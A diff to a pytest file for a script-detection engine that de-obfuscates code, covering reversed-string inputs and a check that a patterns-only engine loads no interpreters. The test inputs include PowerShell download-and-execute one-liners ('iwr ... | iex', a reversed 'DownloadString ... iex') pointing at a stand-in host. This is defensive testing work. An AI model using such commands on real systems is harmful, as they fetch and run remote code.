@@ -7,7 +7,7 @@ import zlib
 
 import pytest
 
-from app.detection.interpret import READERS, Behaviour, Interpretation
+from app.detection.interpret import READERS, Behaviour, Interpretation, load_readers
 from app.detection.interpret import interpret as _interpret
 from app.detection.interpret.budget import Budget
 from app.detection.interpret.facts import Facts
@@ -414,8 +414,9 @@ def test_the_reversed_copy_of_a_text_that_reverses_a_string_is_not_read(
     # some and reads better reversed
     assert not languages(low[::-1]) or backwards(low[::-1])
     read: list[str] = []
+    table = load_readers()  # the interpreters interpret() calls
     for name in READERS:
-        monkeypatch.setitem(READERS, name, lambda t, f, b, name=name: read.append(name))
+        monkeypatch.setitem(table, name, lambda t, f, b, name=name: read.append(name))
     _interpret(text)
     assert read  # the text itself is read
     read.clear()
@@ -433,3 +434,28 @@ def test_a_text_reversing_a_string_that_holds_reversed_code_is_still_read() -> N
     text = "iex ((\"))'x/tset.a//:sptth'(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN(\")[-1..-99] -join '')"
     assert not backwards(text.lower())
     assert any("DownloadString('https://a.test/x')" in x for x in _interpret(text).layers)
+
+
+def test_the_guards_patterns_only_engine_never_loads_an_interpreter() -> None:
+    # the guard builds Engine(interpreters=False) before it says it is ready; the interpreters
+    # and their grammars are the analysis process's, so importing them there only costs start-up
+    import subprocess
+    import sys
+
+    probe = (
+        "import sys\n"
+        "from app.detection.engine import Engine\n"
+        "e = Engine(interpreters=False)\n"
+        "e.analyze('powershell -w h -c \"iwr https://a.test/x.ps1 | iex\"')\n"
+        "loaded = sorted(m for m in sys.modules if m.startswith('app.detection.interpret.')"
+        " and m.rsplit('.', 1)[1] in ('powershell', 'cmd', 'posix', 'javascript', 'grammar'))\n"
+        "print(loaded, 'tree_sitter' in sys.modules)\n"
+    )
+    out = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, timeout=120)
+    assert out.returncode == 0, out.stderr
+    assert out.stdout.strip() == "[] False"
+    # and an engine that reads with them has them before its first text
+    probe = probe.replace("interpreters=False", "interpreters=True").replace("e.analyze", "# ")
+    out = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, timeout=120)
+    assert out.returncode == 0, out.stderr
+    assert "'app.detection.interpret.powershell'" in out.stdout and "True" in out.stdout
